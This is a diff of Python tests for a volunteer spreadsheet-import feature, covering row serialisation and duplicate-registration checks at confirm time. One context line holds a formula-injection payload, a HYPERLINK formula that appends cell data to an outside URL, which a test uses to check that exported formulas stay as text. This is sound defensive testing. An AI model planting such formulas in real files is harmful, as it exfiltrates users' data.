@@ -335,3 +335,23 @@ def test_error_report_downloads_as_xlsx_with_formula_values_kept_as_text(world, 
     assert values[0] == ["行", "列", "内容", "问题"]
     assert values[1] == [2, "工作站编号", '=HYPERLINK("http://10.0.0.9/?"&A1,"x")', "工作站编号不存在"]
     assert all(c.data_type != "f" for ws in workbook.worksheets for r in ws.iter_rows() for c in r)
+
+
+def test_rows_kept_between_preview_and_confirm_round_trip_as_json():
+    from volunteers.importing import ParsedFile
+
+    parsed = ParsedFile(
+        "abc", {"name": 1}, [(2, ("x", 45307, 1.5, None, datetime(2024, 1, 16, 8, 30), date(2024, 1, 16)))]
+    )
+    again = ParsedFile.from_json(parsed.to_json())
+    assert again.rows == parsed.rows and again.index == parsed.index and again.checksum == "abc"
+
+
+def test_confirm_validates_again_against_the_database(world, staff):
+    response = upload(staff, xlsx([row(world.a.station, 1)]))
+    # Meanwhile another station registers the same person.
+    VolunteerFactory(workstation=world.b.station, id_number=person_id(1), id_hash=idnumbers.lookup_hash(person_id(1)))
+    response = confirm(staff, response)
+    assert response.status_code == 200
+    assert "已在其他工作站在册" in response.content.decode()
+    assert Volunteer.objects.filter(workstation=world.a.station).count() == 0
